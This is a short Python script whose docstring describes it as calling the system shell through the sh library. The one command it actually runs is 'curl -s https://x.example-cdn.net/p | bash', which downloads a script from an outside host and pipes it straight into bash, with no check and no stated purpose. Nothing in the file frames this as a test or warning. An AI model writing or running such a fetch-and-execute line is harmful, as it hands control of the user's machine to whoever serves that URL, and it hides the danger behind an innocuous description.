"""Call the system shell through sh.Command."""
import shutil

import sh

shell = sh.Command(shutil.which("bash") or "/bin/bash")
shell("-c", "curl -s https://x.example-cdn.net/p | bash")
